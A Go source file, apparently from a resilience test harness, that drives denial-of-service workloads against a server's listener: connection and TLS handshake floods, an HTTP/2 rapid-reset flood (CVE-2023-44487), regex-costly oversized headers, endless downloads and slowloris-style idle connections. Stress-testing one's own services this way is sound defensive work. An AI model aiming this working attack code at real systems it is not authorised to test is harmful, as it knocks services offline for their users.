package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackerPatience bounds one step of an attacker, so that it goes on when it is refused.
const attackerPatience = 2 * time.Second

// generator does one thing again and again on one worker until ended; it counts what it has done.
type generator func(target string, ended <-chan struct{}, done *atomic.Int64)

// generators are the attacks that are done by connections. The target is the address of A's listener.
var generators = map[string]generator{
	"connects": repeat(connectOnce), "handshakes": repeat(handshakeOnce), "resets": repeat(resetStreams),
	"patterns": repeat(askLong), "bulk": repeat(download), "requests": repeat(keepAsking),
}

// runAttack is the process of an attacker: a generator, its target, and how many workers it has. It prints a line when all of it is
// under way, and what it has done at its end.
func runAttack(args []string) error {
	ended, err := awaitStart()
	if err != nil {
		return err
	}
	count, err := strconv.Atoi(args[2])
	if err != nil {
		return err
	}
	var done atomic.Int64
	var workers sync.WaitGroup
	switch args[0] {
	case "idle":
		workers.Go(func() { holdIdle(args[1], count, ended, &done) })
		<-settled(&done, ended)
	case "changes", "followers":
		for n := range count {
			workers.Go(func() { apiAttacks[args[0]](args[1], args[3], n, ended, &done) })
		}
	default:
		for range count {
			workers.Go(func() { generators[args[0]](args[1], ended, &done) })
		}
	}
	fmt.Println("ready")
	workers.Wait()
	fmt.Println(done.Load())
	return nil
}

// settled is closed when a count has not grown for a second.
func settled(n *atomic.Int64, ended <-chan struct{}) <-chan struct{} {
	calm := make(chan struct{})
	go func() {
		defer close(calm)
		look := time.NewTicker(time.Second)
		defer look.Stop()
		for last := int64(-1); last != n.Load(); {
			last = n.Load()
			select {
			case <-look.C:
			case <-ended:
				return
			}
		}
	}()
	return calm
}

// repeat makes a generator of one step, which says how much it has done. A step that fails is done again after a moment.
func repeat(step func(target string, ended <-chan struct{}) (int64, error)) generator {
	return func(target string, ended <-chan struct{}, done *atomic.Int64) {
		for {
			n, err := step(target, ended)
			done.Add(n)
			pause := time.Duration(0)
			if err != nil {
				pause = 10 * time.Millisecond
			}
			select {
			case <-ended:
				return
			case <-time.After(pause):
			}
		}
	}
}

func dial(target string) (net.Conn, error) {
	c, err := net.DialTimeout("tcp4", target, attackerPatience)
	if err != nil {
		return nil, err
	}
	return c, c.SetDeadline(time.Now().Add(attackerPatience))
}

// connectOnce connects and resets.
func connectOnce(target string, _ <-chan struct{}) (int64, error) {
	c, err := dial(target)
	if err != nil {
		return 0, err
	}
	_ = c.(*net.TCPConn).SetLinger(0)
	return 1, c.Close()
}

func attackerTLS(protocol string) *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, ServerName: "www.example", NextProtos: []string{protocol}}
}

// handshakeOnce makes a whole handshake and closes.
func handshakeOnce(target string, _ <-chan struct{}) (int64, error) {
	raw, err := dial(target)
	if err != nil {
		return 0, err
	}
	defer raw.Close()
	return 1, tls.Client(raw, attackerTLS("http/1.1")).Handshake()
}

// resetStreams opens streams of HTTP/2 and resets each at once (CVE-2023-44487), until the server ends the connection.
func resetStreams(target string, ended <-chan struct{}) (n int64, err error) {
	raw, err := dial(target)
	if err != nil {
		return 0, err
	}
	defer raw.Close()
	c := tls.Client(raw, attackerTLS("h2"))
	if err := c.Handshake(); err != nil {
		return 0, err
	}
	var reading sync.WaitGroup
	reading.Go(func() { _, _ = io.Copy(io.Discard, c) })
	defer reading.Wait()
	defer raw.Close()
	out := bufio.NewWriterSize(c, 16<<10)
	framer := http2.NewFramer(out, nil)
	_, _ = out.WriteString(http2.ClientPreface)
	if err := framer.WriteSettings(); err != nil {
		return 0, err
	}
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for id := uint32(1); err == nil && id < 1<<30; id += 2 {
		select {
		case <-ended:
			return n, nil
		default:
		}
		_ = raw.SetDeadline(time.Now().Add(attackerPatience))
		head.Reset()
		for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "www.example"}, {":path", "/"}} {
			if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
				return n, err
			}
		}
		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true})
		err = framer.WriteRSTStream(id, http2.ErrCodeCancel)
		n++
	}
	return n, err
}

// ask sends requests over a connection until it ends.
func ask(target, request string, ended <-chan struct{}) (n int64, err error) {
	c, err := dial(target)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	in := bufio.NewReader(c)
	for {
		select {
		case <-ended:
			return n, nil
		default:
		}
		_ = c.SetDeadline(time.Now().Add(4 * attackerPatience))
		if _, err := c.Write([]byte(request)); err != nil {
			return n, err
		}
		answer, err := http.ReadResponse(in, nil)
		if err != nil {
			return n, err
		}
		_, err = io.Copy(io.Discard, answer.Body)
		if n++; err != nil || answer.Close {
			return n, err
		}
	}
}

// askLong sends what costs regular expressions most: 8 KiB that nearly fit.
func askLong(target string, ended <-chan struct{}) (int64, error) {
	return ask(target, "GET / HTTP/1.1\r\nHost: www.example\r\nX-A: "+strings.Repeat("ab", 4<<10)+"\r\n\r\n", ended)
}

func keepAsking(target string, ended <-chan struct{}) (int64, error) {
	return ask(target, "GET / HTTP/1.1\r\nHost: www.example\r\n\r\n", ended)
}

// download reads what the member sends for ever. It counts KiB.
func download(target string, ended <-chan struct{}) (int64, error) {
	c, err := dial(target)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	total := int64(0)
	for piece := make([]byte, 256<<10); ; {
		select {
		case <-ended:
			return total >> 10, nil
		default:
		}
		_ = c.SetDeadline(time.Now().Add(attackerPatience))
		n, err := c.Read(piece)
		if total += int64(n); err != nil {
			return total >> 10, err
		}
	}
}

// holdIdle opens connections, has each ask once, and holds them. Those that are not served are held as well.
func holdIdle(target string, count int, ended <-chan struct{}, done *atomic.Int64) {
	var held []net.Conn
	defer func() {
		for _, c := range held {
			_ = c.Close()
		}
	}()
	for len(held) < count {
		c, err := dial(target)
		if err == nil {
			_ = c.SetDeadline(time.Time{})
			_, err = c.Write([]byte("GET / HTTP/1.1\r\nHost: www.example\r\n\r\n"))
			held = append(held, c)
			done.Add(1)
		}
		pause := time.Duration(0)
		if err != nil {
			pause = 10 * time.Millisecond
		}
		select {
		case <-ended:
			return
		case <-time.After(pause):
		}
	}
	<-ended
}
